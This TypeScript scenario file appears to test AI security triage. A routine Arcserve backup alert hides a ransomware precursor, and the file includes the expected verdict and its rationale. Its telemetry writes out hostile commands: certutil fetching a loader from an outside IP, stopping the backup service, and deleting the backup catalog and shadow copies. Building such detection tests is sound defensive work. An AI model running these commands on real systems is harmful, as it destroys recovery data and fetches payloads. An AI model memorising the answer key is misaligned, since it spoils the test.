// Arcserve says once more that its agent on the SQL server does not answer; the old ticket knows a fault after patch days, this time somebody stopped it by hand.
import { alert, connected, hashes, hostile, loggedOn, ran, situation, ticket, wrote } from '../../shorthand.ts'

export const arcserveAgentStoppedAfterPatchDay = situation(
  'arcserve-agent-stopped-after-patch-day',
  'carry-over',
  'Arcserve UDP: agent not reachable, job missed',
  (setting) => {
    const oskar = setting.person('oskar.falk')
    const karin = setting.person('karin.strand')
    const server = setting.machine('srv-sql-01')
    const backup = setting.machine('srv-backup-01')
    const at = setting.ago({ hours: 1, minutes: 52 })
    const minute = 60_000
    const control = '45.138.16.203'
    const tool = setting.file('winupd64.exe on the sql server')
    const job = setting.seeded.number('arcserve job', 20_000, 90_000)
    const folder = 'C:\\PerfLogs\\Admin'
    const child = { AccountName: 'svc-sql', AccountDomain: 'HAVSKOG', FolderPath: 'C:\\Windows\\System32' }
    const of = { InitiatingProcessFileName: 'winupd64.exe', InitiatingProcessSHA256: tool.sha256 }
    return {
      alerts: [
        alert(
          setting,
          at + 12 * minute,
          'arcserve_udp',
          'Agent not reachable',
          [
            'From: Arcserve UDP <udp@havskoginstruments.com>',
            'To: backup-drift@havskoginstruments.com; it-larm@havskoginstruments.com',
            `Date: ${new Date(at + 12 * minute).toUTCString()}`,
            `Subject: Arcserve Unified Data Protection Alert - Missed Job (Node: ${server.host.toUpperCase()})`,
            `Message-ID: <${setting.seeded.hex('arcserve mail', 22)}@${backup.dnsName}>`,
            'X-Arcserve-Alert-Type: MISSED_JOB',
            'Content-Type: text/plain; charset=utf-8',
            '',
            'ALERT SUMMARY',
            '  Event Type:        Backup job missed / agent unreachable',
            '  Severity:          Warning',
            `  Alert ID:          ${job + 11}`,
            `  Time (UTC):        ${setting.iso(at + 11 * minute)}`,
            '',
            'NODE',
            `  Node Name:         ${server.host.toUpperCase()} (${server.dnsName})`,
            `  IP Address:        ${server.ip}`,
            '  Operating System:  Windows Server 2022 Standard, 21H2',
            '  Agent Version:     10.2.6311 Update 1, Build 118',
            '  Agent Service:     CASAD2DWebSvc - not running',
            '  Protected Data:    C:, D: (SQL data), E: (SQL log)',
            '  Plan:              HVS-SQL-HOURLY (every 60 minutes, 240 recovery points)',
            '',
            'JOB',
            `  Job ID:            ${job}`,
            '  Job Type:          Incremental backup',
            `  Scheduled Start:   ${setting.iso(at + 8 * minute)}`,
            '  Result:            Missed',
            '  Error:             [AE0104] Failed to connect to the agent. The agent service is stopped or port 8014 is blocked.',
            `  Last good backup:  ${setting.iso(at - 52 * minute)}`,
            '  VSS writers:       SqlServerWriter - state unknown',
            '',
            'DESTINATION',
            `  Recovery Point Server: ${backup.dnsName}`,
            '  Data Store:        DS-SQL-01 (deduplicated, encrypted), 61 % used, status Running',
            '  Remote replication: last finished 9 hours ago',
            '',
            'SAME ALERT ON THIS NODE',
            `  ${setting.iso(setting.ago({ days: 28, hours: 2 }))}  Missed job  (acknowledged: oskar.falk)`,
            `  ${setting.iso(setting.ago({ days: 56, hours: 3 }))}  Missed job  (acknowledged: oskar.falk)`,
            '  Note on node: "stops after patch day, restart service, see ticket - OF"',
            '',
            'ACTION',
            '  1. Check that the agent service runs on the node.',
            '  2. Check ports 8014 and 8015 between the console and the node.',
            '  3. Run the missed job from the console if needed.',
            '',
            `Console: https://${backup.dnsName}:8015/#/resources/nodes/${setting.seeded.guid('arcserve node')}`,
            'License: Arcserve UDP Premium, 9 sockets, maintenance until 31 Mar 2027. This mailbox is not read.',
          ].join('\n'),
        ),
      ],
      facts: {
        intelligence: [
          setting.risk(
            'hash',
            tool.sha256,
            91,
            [['Positive Malware Verdict', 4, 'Loader used by a ransomware crew before encryption; seen this week.']],
            { hashAlgorithm: 'SHA-256', fileHashes: [tool.sha256, tool.sha1, tool.md5] },
          ),
        ],
        investigations: [
          ticket(setting, 'Backup of SQL missed now and then', setting.ago({ days: 56 }), 'NOT_APPLICABLE', [], '', {
            source: 'USER',
            status: 'CLOSED',
            assignee: oskar,
            priority: 'LOW',
            tags: ['Backup'],
            alerts: [
              {
                title: 'Support request',
                type: 'Support request',
                description: 'Request of IT.',
                source: 'Service desk',
                at: setting.ago({ days: 56 }),
                actors: [{ machine: server }],
              },
            ],
            comments: [
              {
                author: oskar.name,
                body: 'Agent on srv-sql-01 does not come up after the monthly restart, it starts before SQL. Restart it and all is well. Happened this month and last. Known fault at Arcserve, nothing to worry about.',
                at: setting.ago({ days: 55, hours: 20 }),
              },
              {
                author: oskar.name,
                body: 'Set to delayed start. Closing.',
                at: setting.ago({ days: 27, hours: 20 }),
              },
            ],
          }),
          ticket(setting, 'Plan of the month', setting.ago({ days: 6 }), 'NOT_APPLICABLE', [], '', {
            source: 'USER',
            status: 'OPEN',
            assignee: karin,
            priority: 'LOW',
            tags: ['IT'],
            alerts: [],
            comments: [
              {
                author: karin.name,
                body: 'Servers get their patches on Saturday evening this time. Nothing before, finance closes the books.',
                at: setting.ago({ days: 6 }),
              },
            ],
          }),
        ],
        telemetry: [
          loggedOn(server, setting.ago({ days: 2, hours: 4 }), oskar.account, { LogonType: 'RemoteInteractive' }),
          ran(server, setting.ago({ hours: 20 }), 'sqlcmd.exe', 'sqlcmd -E -Q "EXEC dbo.IndexOptimize"', {
            ...child,
            InitiatingProcessFileName: 'SQLAGENT.EXE',
          }),
          ran(
            server,
            at - 31 * minute,
            'cmd.exe',
            `cmd.exe /c certutil -urlcache -f http://${control}/u ${folder}\\winupd64.exe`,
            {
              ...child,
              InitiatingProcessFileName: 'sqlservr.exe',
            },
          ),
          connected(server, at - 31 * minute + 2000, control, {
            RemotePort: 80,
            InitiatingProcessFileName: 'certutil.exe',
            InitiatingProcessAccountName: 'svc-sql',
          }),
          wrote(server, at - 31 * minute + 4000, 'winupd64.exe', folder, tool, {
            InitiatingProcessFileName: 'certutil.exe',
            InitiatingProcessAccountName: 'svc-sql',
          }),
          ran(server, at - 30 * minute, 'winupd64.exe', `${folder}\\winupd64.exe`, {
            ...child,
            ...hashes(tool),
            FolderPath: folder,
            InitiatingProcessFileName: 'cmd.exe',
          }),
          ran(server, at - 3 * minute, 'sc.exe', 'sc.exe config CASAD2DWebSvc start= disabled', { ...child, ...of }),
          ran(server, at, 'net.exe', 'net.exe stop CASAD2DWebSvc /y', { ...child, ...of }),
          ran(server, at + minute, 'wbadmin.exe', 'wbadmin delete catalog -quiet', { ...child, ...of }),
          ran(server, at + 2 * minute, 'vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', { ...child, ...of }),
          ...[-29, -14, 1, 16, 31, 46].map((later) =>
            connected(server, at + later * minute, control, {
              InitiatingProcessFileName: 'winupd64.exe',
              InitiatingProcessSHA256: tool.sha256,
              InitiatingProcessAccountName: 'svc-sql',
            }),
          ),
        ],
      },
      expected: {
        ...hostile(server.host),
        severities: ['high', 'critical'],
        forbidden: [{ action: 'isolate-machine', target: backup.host }],
      },
      because:
        'The known fault comes after a restart on patch day, and there was none. A known loader that the SQL service fetched from a command server disabled and stopped the agent, then deleted the catalog and the shadow copies, and it keeps calling that server: the last steps before encryption.',
    }
  },
)
